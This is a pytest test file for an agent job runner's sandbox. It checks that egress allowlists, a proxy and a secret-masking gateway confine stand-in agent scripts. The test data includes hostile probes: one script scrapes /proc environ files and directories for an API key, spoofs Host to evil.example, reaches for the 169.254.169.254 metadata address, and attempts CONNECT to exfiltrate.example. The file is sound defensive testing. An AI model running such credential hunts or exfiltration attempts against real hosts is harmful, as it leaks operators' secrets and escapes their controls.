"""The agent's network through `tireless work`, with real sandboxes and real agents (Python
scripts): with its lane's allowlist the agent reaches a listed host only through the runner's
proxy, is refused the rest (an unlisted host, a raw IP, a listed name that resolves to loopback,
the metadata address), each refusal recorded, and a socket it opens itself reaches nothing; an
upstream's secret, added by the runner's gateway, is nowhere the agent can look; without a list
nothing changes. The stand-in upstreams are HTTP servers on loopback addresses of the host
(127.0.0.2, 127.0.0.3), which the agent's own network namespace does not share."""

from __future__ import annotations

import json
import os
import pwd
import shutil
import signal
import socket
import subprocess
import sys
import tempfile
import threading
import uuid
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest

from tests.conftest import Database
from tests.helpers import enqueue_jobs, issue, tireless_cli, wait_until
from tests.support.work import (
    clean_environment,
    run_worker,
    skip_unless_available,
    start_worker,
    work_args,
)
from tireless import JobStore
from tireless.runner import relay
from tireless.runner.sandbox import relay_python

pytestmark = pytest.mark.usefixtures("in_the_tests_directory")

LISTED = "127.0.0.2"
UNLISTED = "127.0.0.3"


class Echo(BaseHTTPRequestHandler):
    """A stand-in upstream (a model API, a registry): answers every GET with the path, Host and
    Authorization it got, as JSON, and keeps them in its server's `received`."""

    server: StandIn

    def do_GET(self) -> None:
        got = {
            "path": self.path,
            "host": self.headers.get("Host"),
            "authorization": self.headers.get("Authorization"),
        }
        self.server.received.append(got)
        body = json.dumps(got).encode()
        self.send_response(200)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, format: str, *args: Any) -> None:
        pass


class StandIn(ThreadingHTTPServer):
    received: list[dict[str, Any]]

    @property
    def port(self) -> int:
        return int(self.server_address[1])


def serving(host: str) -> Iterator[StandIn]:
    server = StandIn((host, 0), Echo)
    server.received = []
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield server
    server.shutdown()
    server.server_close()
    thread.join()


@pytest.fixture
def listed() -> Iterator[StandIn]:
    yield from serving(LISTED)


@pytest.fixture
def unlisted() -> Iterator[StandIn]:
    yield from serving(UNLISTED)


@pytest.fixture
def worker_tmp() -> Iterator[Path]:
    """The worker's TMPDIR, of this test alone (short: a unix socket's path has at most 107
    bytes), where the job's network directory is made and must be gone afterwards."""
    path = Path(tempfile.mkdtemp(prefix="tl-"))
    yield path
    shutil.rmtree(path)


@pytest.fixture(params=["bwrap", "unshare"])
def namespace(request: pytest.FixtureRequest) -> str:
    """The sandboxes that give the agent a network namespace of its own."""
    skip_unless_available(request.param)
    name: str = request.param
    if (
        name == "bwrap"
        and subprocess.run(
            ["bwrap", "--unshare-net", "--ro-bind", "/", "/", "true"], capture_output=True
        ).returncode
    ):
        pytest.skip("bwrap cannot make a network namespace here (--unshare-net failed)")
    return name


PROXIED_AGENT = r"""
import json, os, socket, sys, urllib.error, urllib.request
out, listed, unlisted = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
proxy = os.environ["HTTPS_PROXY"].removeprefix("http://")
proxy_host, proxy_port = proxy.split(":")

def through_proxy(request, then=b""):
    # a raw request to the proxy (urllib would skip it for localhost, which NO_PROXY lists)
    with socket.create_connection((proxy_host, int(proxy_port)), timeout=20) as conn:
        conn.sendall(request + b"\r\n\r\n")
        answer = conn.recv(65536)
        if then and answer.startswith(b"HTTP/1.1 200"):
            conn.sendall(then)
            answer = b""
            while chunk := conn.recv(65536):
                answer += chunk
        return answer.decode(errors="replace")

def direct(host, port):
    try:
        socket.create_connection((host, port), timeout=5).close()
        return "connected"
    except OSError as error:
        return type(error).__name__

found = {"env": {k: os.environ.get(k) for k in ("HTTPS_PROXY", "HTTP_PROXY", "https_proxy",
                                               "http_proxy", "NO_PROXY", "no_proxy")}}
with urllib.request.urlopen(f"http://127.0.0.2:{listed}/plain", timeout=20) as answer:
    found["plain"] = [answer.status, json.loads(answer.read())]
found["tunnel"] = through_proxy(
    f"CONNECT 127.0.0.2:{listed} HTTP/1.1".encode(),
    then=f"GET /tunnel HTTP/1.1\r\nHost: 127.0.0.2:{listed}\r\nConnection: close\r\n\r\n".encode(),
)
found["refused"] = {
    "unlisted": through_proxy(f"CONNECT 127.0.0.3:{unlisted} HTTP/1.1".encode()),
    "name": through_proxy(b"GET http://unlisted.example/ HTTP/1.1\r\nHost: unlisted.example"),
    "raw-ip": through_proxy(b"CONNECT 203.0.113.7:443 HTTP/1.1"),
    "localhost": through_proxy(f"GET http://localhost:{listed}/ HTTP/1.1".encode()),
    "metadata": through_proxy(b"GET http://169.254.169.254/latest/meta-data/ HTTP/1.1"),
}
found["direct"] = {
    "listed": direct("127.0.0.2", listed),
    "outside": direct("203.0.113.7", 80),
}
try:
    socket.getaddrinfo("example.com", 443)
    found["direct"]["dns"] = "resolved"
except OSError as error:
    found["direct"]["dns"] = type(error).__name__
with open(os.path.join(out, "found.json"), "w") as file:
    json.dump(found, file)
"""


def test_an_agent_reaches_a_listed_host_only_through_the_proxy_and_each_refusal_is_recorded(
    store: JobStore,
    db: Database,
    tmp_path: Path,
    listed: StandIn,
    unlisted: StandIn,
    namespace: str,
) -> None:
    enqueue_jobs(store, 1)
    store.set_lane_network("cc", [f"{LISTED}:{listed.port}", f"localhost:{listed.port}"])
    command = [sys.executable, "-I", "-c", PROXIED_AGENT, str(tmp_path)]
    command += [str(listed.port), str(unlisted.port)]
    done = tireless_cli(db.url, *work_args("--once", "--sandbox", namespace, "--"), *command)
    assert done.returncode == 0, done.stderr + done.stdout
    assert f"lane cc: its agents reach {LISTED}:{listed.port}, localhost:" in done.stderr
    found = json.loads((tmp_path / "found.json").read_text())
    proxy = "http://127.0.0.1:3128"
    assert found["env"] == {
        "HTTPS_PROXY": proxy, "HTTP_PROXY": proxy, "https_proxy": proxy, "http_proxy": proxy,
        "NO_PROXY": "127.0.0.1,localhost", "no_proxy": "127.0.0.1,localhost",
    }  # fmt: skip
    assert found["plain"] == [200, {"path": "/plain", "host": f"{LISTED}:{listed.port}",
                                    "authorization": None}]  # fmt: skip
    assert found["tunnel"].startswith("HTTP/1.0 200"), found["tunnel"]
    assert [got["path"] for got in listed.received] == ["/plain", "/tunnel"]
    for why, answer in found["refused"].items():
        assert answer.startswith("HTTP/1.1 403 Forbidden"), (why, answer)
    assert unlisted.received == []
    assert found["direct"] == {
        "listed": "ConnectionRefusedError",  # its own loopback: nothing of the host's listens
        "outside": "OSError",  # ENETUNREACH: no route out of the namespace
        "dns": "gaierror",
    }
    job_id = db.scalar("SELECT id FROM tireless.job")
    assert db.scalar("SELECT state::text FROM tireless.job") == "delivered"
    recorded = store.job_network(job_id)
    allowed = [row for row in recorded if row.allowed]
    assert [(row.host, row.port, row.requests) for row in allowed] == [(LISTED, listed.port, 2)]
    assert allowed[0].bytes_in > 0
    assert allowed[0].bytes_out > 0
    refused = {(row.host, row.port): row for row in recorded if not row.allowed}
    assert set(refused) == {
        (UNLISTED, unlisted.port),
        ("unlisted.example", 80),
        ("203.0.113.7", 443),
        ("localhost", listed.port),
        ("169.254.169.254", 80),
    }
    assert "127.0.0.1 (loopback)" in (refused["localhost", listed.port].reason or "")
    assert all(row.requests == 1 and row.bytes_in == row.bytes_out == 0 for row in refused.values())


SNOOPING_AGENT = r"""
import http.client, json, os, sys, urllib.request
out, secret_file = sys.argv[1], sys.argv[2]
url = os.environ["TIRELESS_UPSTREAM_MODEL_URL"]
host, port = url.removeprefix("http://").split(":")
dump = []

def ask(path, headers=(), target=None):
    conn = http.client.HTTPConnection(host, int(port), timeout=20)
    conn.putrequest("GET", target or path, skip_host=any(k == "Host" for k, _ in headers))
    for name, value in headers:
        conn.putheader(name, value)
    conn.endheaders()
    answer = conn.getresponse()
    body = answer.read()
    dump.append(body)
    return [answer.status, body.decode(errors="replace")]

found = {
    "url": url,
    "answer": ask("/v1/messages", [("Authorization", "Bearer agent-made")]),
    "other-host": ask("/v1/messages", [("Host", "evil.example")]),
    "absolute": ask("", target="http://evil.example/v1/messages"),
}
# Everywhere the agent can look: its environment, every process's /proc it can read, the secret
# file's path, and every file in its directory, /tmp, /run and its home.
dump.append(repr(dict(os.environ)).encode())
for pid in filter(str.isdigit, os.listdir("/proc")):
    for part in ("environ", "cmdline"):
        try:
            dump.append(open(f"/proc/{pid}/{part}", "rb").read())
        except OSError:
            pass
try:
    found["secret-file"] = open(secret_file).read()
except OSError as error:
    found["secret-file"] = type(error).__name__
for top in {os.getcwd(), "/tmp", "/run", os.environ.get("HOME", "/")}:
    for directory, _, files in os.walk(top):
        for name in files:
            try:
                dump.append(open(os.path.join(directory, name), "rb").read(1 << 20))
            except OSError:
                pass
with open(os.path.join(out, "dump"), "wb") as file:
    file.write(b"\n".join(dump))
with open(os.path.join(out, "found.json"), "w") as file:
    json.dump(found, file)
"""


def test_the_gateway_adds_the_secret_and_the_agent_finds_it_nowhere(
    store: JobStore, db: Database, public_dir: Path, listed: StandIn
) -> None:
    """The documented setup: an agent user (when the test runs as root), bwrap, a lane with no
    egress at all, and the model's key in a file even the agent's user could read, were it not
    hidden."""
    skip_unless_available("bwrap")
    enqueue_jobs(store, 1)
    store.set_lane_network("cc", [])
    secret = f"sk-test-{uuid.uuid4().hex}"
    secret_file = public_dir / "model-key"
    secret_file.write_text(secret + "\n")
    secret_file.chmod(0o644)
    agent = ["--agent-user", "nobody"] if os.geteuid() == 0 else []
    python = relay_python(pwd.getpwnam("nobody") if agent else None)
    command = [python, "-I", "-c", SNOOPING_AGENT, str(public_dir), str(secret_file)]
    upstream = f"http://{LISTED}:{listed.port}/api"
    done = run_worker(
        clean_environment() | {"DATABASE_URL": db.url}, public_dir, *agent, "--sandbox", "bwrap",
        "--upstream", f"model={upstream}", "--upstream-secret", f"model={secret_file}",
        command=command,
    )  # fmt: skip
    assert done.returncode == 0, done.stderr
    assert (public_dir / "found.json").exists(), done.stdout + done.stderr
    found = json.loads((public_dir / "found.json").read_text())
    assert found["url"] == "http://127.0.0.1:4000"
    status, body = found["answer"]
    assert status == 200
    assert json.loads(body) == {
        "path": "/api/v1/messages", "host": f"{LISTED}:{listed.port}",
        "authorization": "Bearer ***",  # the gateway masks the secret in what it answers
    }  # fmt: skip
    assert listed.received[0]["authorization"] == f"Bearer {secret}", "not the agent's own"
    assert len(listed.received) == 1, "the requests for another host were not forwarded"
    assert found["other-host"][0] == 403
    assert found["absolute"][0] == 403
    assert found["secret-file"] == "PermissionError", "a device node (nodev) in its place"
    dump = (public_dir / "dump").read_bytes()
    assert b"TIRELESS_UPSTREAM_MODEL_URL" in dump, "the agent read its environment"
    assert b"relay.py" in dump, "and the relay's command line"
    assert secret.encode() not in dump
    assert secret.encode() not in done.stdout + done.stderr
    job_id = db.scalar("SELECT id FROM tireless.job")
    assert db.scalar("SELECT state::text FROM tireless.job") == "delivered"
    recorded = [(row.host, row.port, row.allowed) for row in store.job_network(job_id)]
    assert recorded == [(LISTED, listed.port, True)]


def test_without_a_list_no_upstream_is_offered_and_its_secret_is_still_masked(
    store: JobStore, db: Database, public_dir: Path, listed: StandIn
) -> None:
    """No allowlist: the agent keeps the host's network (no proxy set) and gets no upstream: a
    gateway on the host's loopback would lend its secret to every local user. The worker says so
    at start, and an agent that printed the secret (read some other way) has it masked in the
    worker's output and in the note."""
    enqueue_jobs(store, 1)
    secret = f"sk-test-{uuid.uuid4().hex}"
    (public_dir / "model-key").write_text(secret)
    script = (
        "import os, sys\n"
        "print('proxy', os.environ.get('HTTPS_PROXY'))\n"
        "print('upstream', os.environ.get('TIRELESS_UPSTREAM_MODEL_URL'))\n"
        "print('leak', sys.argv[1])\n"
        "sys.exit(1)\n"
    )
    env = clean_environment() | {"DATABASE_URL": db.url}
    env = {k: v for k, v in env.items() if k.lower() not in ("https_proxy", "no_proxy")}
    done = run_worker(
        env, public_dir, "--sandbox", "none",
        "--upstream", f"model=http://{LISTED}:{listed.port}",
        "--upstream-secret", f"model={public_dir / 'model-key'}",
        command=[sys.executable, "-I", "-c", script, secret],
    )  # fmt: skip
    assert done.returncode == 0, done.stderr
    assert (
        b"lane cc has no egress allowlist: its agents have the host's network and no upstream"
        in done.stderr
    )
    assert listed.received == []
    lines = done.stdout.decode().splitlines()
    assert lines[:3] == ["proxy None", "upstream None", "leak ***"]
    assert secret.encode() not in done.stdout + done.stderr
    note = db.scalar("SELECT note FROM tireless.job")
    assert "leak ***" in note
    assert secret not in note


DIRECT_AGENT = r"""
import json, os, sys, urllib.request
out, port = sys.argv[1], sys.argv[2]
answer = urllib.request.urlopen(f"http://127.0.0.2:{port}/direct", timeout=20).read()
json.dump({"answer": json.loads(answer), "proxy": os.environ.get("HTTPS_PROXY")},
          open(os.path.join(out, "found.json"), "w"))
"""


def test_without_a_list_the_agent_keeps_the_hosts_network(
    store: JobStore, db: Database, tmp_path: Path, listed: StandIn
) -> None:
    skip_unless_available("bwrap")
    enqueue_jobs(store, 1)
    command = [sys.executable, "-I", "-c", DIRECT_AGENT, str(tmp_path), str(listed.port)]
    done = tireless_cli(db.url, *work_args("--once", "--sandbox", "bwrap", "--"), *command)
    assert done.returncode == 0, done.stderr
    assert "lane cc has no egress allowlist: its agents have the host's network" in done.stderr
    found = json.loads((tmp_path / "found.json").read_text())
    assert found == {
        "answer": {"path": "/direct", "host": f"{LISTED}:{listed.port}", "authorization": None},
        "proxy": os.environ.get("HTTPS_PROXY"),  # the worker's own, if any: not the runner's
    }
    assert store.job_network(db.scalar("SELECT id FROM tireless.job")) == []


def test_the_none_sandbox_refuses_a_lane_with_an_allowlist(
    store: JobStore, db: Database, tmp_path: Path
) -> None:
    enqueue_jobs(store, 1)
    store.set_lane_network("cc", ["api.anthropic.com"])
    done = tireless_cli(db.url, *work_args("--once", "--sandbox", "none", "--"), "true")
    assert done.returncode == 2, done.stderr
    assert (
        "tireless: lane cc has an egress allowlist: --sandbox none cannot give the agent a"
        " network of its own (use --sandbox bwrap)"
    ) in done.stderr
    assert db.scalar("SELECT row(state, attempts)::text FROM tireless.job") == "(pending,0)"


# The relay on its own
def run_relay(*arguments: str) -> subprocess.Popen[bytes]:
    return subprocess.Popen(
        [sys.executable, "-I", relay.__file__, *arguments], stderr=subprocess.PIPE
    )


def test_the_relay_exits_125_naming_an_address_it_cannot_bind() -> None:
    with socket.create_server(("127.0.0.1", 0)) as taken:
        port = taken.getsockname()[1]
        process = run_relay("--map", f"127.0.0.1:{port}=/nonexistent.sock", "--", "true")
        _, err = process.communicate(timeout=30)
    assert process.returncode == 125
    assert f"relay: cannot listen on 127.0.0.1:{port}" in err.decode()


def test_the_relay_passes_signals_on_and_exits_as_its_command_did(tmp_path: Path) -> None:
    ready = tmp_path / "ready"
    waits = f"import pathlib, time\npathlib.Path({str(ready)!r}).touch()\ntime.sleep(60)"
    handles = "import signal, sys\nsignal.signal(signal.SIGHUP, lambda *_: sys.exit(7))\n" + waits
    for body, signum, code in (
        (waits, signal.SIGTERM, 128 + signal.SIGTERM),  # killed by it: 128 + the signal
        (waits, signal.SIGINT, 128 + signal.SIGINT),  # Python ends by it after KeyboardInterrupt
        (handles, signal.SIGHUP, 7),
    ):
        ready.unlink(missing_ok=True)
        process = run_relay("--", sys.executable, "-c", body)
        wait_until(ready.exists, "the command to run")
        process.send_signal(signum)
        process.communicate(timeout=30)
        assert process.returncode == code, (signum, process.returncode)


REFUSED_AGENT = r"""
import os, socket, sys
proxy = os.environ["HTTP_PROXY"].removeprefix("http://").split(":")
with socket.create_connection((proxy[0], int(proxy[1])), timeout=20) as conn:
    conn.sendall(b"CONNECT exfiltrate.example:443 HTTP/1.1\r\n\r\n")
    print(conn.recv(65536).decode().splitlines()[0])
sys.exit(1)
"""


def test_a_failed_attempt_records_its_refusals_and_leaves_no_network_directory(
    store: JobStore, db: Database, worker_tmp: Path
) -> None:
    skip_unless_available("bwrap")
    enqueue_jobs(store, 1)
    store.set_lane_network("cc", ["api.anthropic.com"])
    command = [sys.executable, "-I", "-c", REFUSED_AGENT]
    done = tireless_cli(
        db.url, *work_args("--once", "--sandbox", "bwrap", "--"), *command, TMPDIR=str(worker_tmp)
    )
    assert done.returncode == 0, done.stderr
    assert "HTTP/1.1 403 Forbidden" in done.stdout
    assert db.scalar("SELECT row(state, attempts)::text FROM tireless.job") == "(pending,1)"
    recorded = store.job_network(db.scalar("SELECT id FROM tireless.job"))
    assert [(row.attempt, row.host, row.port, row.allowed) for row in recorded] == [
        (1, "exfiltrate.example", 443, False)
    ]
    assert list(worker_tmp.iterdir()) == []


def test_a_bad_upstream_is_a_usage_error_naming_it(db: Database, tmp_path: Path) -> None:
    done = tireless_cli(
        db.url, *work_args("--once", "--upstream", "model=ftp://example.com", "--"), "true"
    )
    assert done.returncode == 2, done.stderr
    assert "--upstream model=ftp://example.com" in done.stderr
    done = tireless_cli(
        db.url,
        *work_args("--once", "--upstream", "model=https://example.com", "--upstream-secret",
                   f"model={tmp_path / 'missing'}", "--"),
        "true",
    )  # fmt: skip
    assert done.returncode == 2, done.stderr
    assert f"--upstream-secret model={tmp_path / 'missing'}: cannot read it" in done.stderr


HOLDING_AGENT = r"""
import os, pathlib, socket, sys, time
out, port = sys.argv[1], sys.argv[2]
proxy = os.environ["HTTP_PROXY"].removeprefix("http://").split(":")
tunnel = socket.create_connection((proxy[0], int(proxy[1])), timeout=20)
tunnel.sendall(f"CONNECT 127.0.0.2:{port} HTTP/1.1\r\n\r\n".encode())
assert tunnel.recv(65536).startswith(b"HTTP/1.1 200")
pathlib.Path(out, "started").touch()
time.sleep(60)  # the tunnel held open until the job is stopped
"""


def test_a_cancelled_job_with_an_open_tunnel_records_its_use_and_leaves_nothing(
    store: JobStore,
    db: Database,
    tmp_path: Path,
    listed: StandIn,
    worker_process: list[subprocess.Popen[str]],
    worker_tmp: Path,
) -> None:
    skip_unless_available("bwrap")
    enqueue_jobs(store, 1)
    store.set_lane_network("cc", [f"{LISTED}:{listed.port}"])
    command = [sys.executable, "-I", "-c", HOLDING_AGENT, str(tmp_path), str(listed.port)]
    options = ("--once", "--lease", "1500ms", "--grace", "30s", "--sandbox", "bwrap", "--")
    worker = start_worker(
        db, worker_process, *work_args(*options), *command, extra={"TMPDIR": str(worker_tmp)}
    )
    wait_until((tmp_path / "started").exists, "the agent to open its tunnel")
    assert store.enqueue([issue(1, state="closed")]) == 0  # the request is withdrawn
    _, err = worker.communicate(timeout=30)  # within the grace: the agent heard its SIGTERM
    assert worker.returncode == 0, err
    assert db.scalar("SELECT state::text FROM tireless.job") == "cancelled"
    recorded = store.job_network(db.scalar("SELECT id FROM tireless.job"))
    assert [(row.host, row.port, row.allowed, row.requests) for row in recorded] == [
        (LISTED, listed.port, True, 1)
    ]
    assert list(worker_tmp.iterdir()) == []
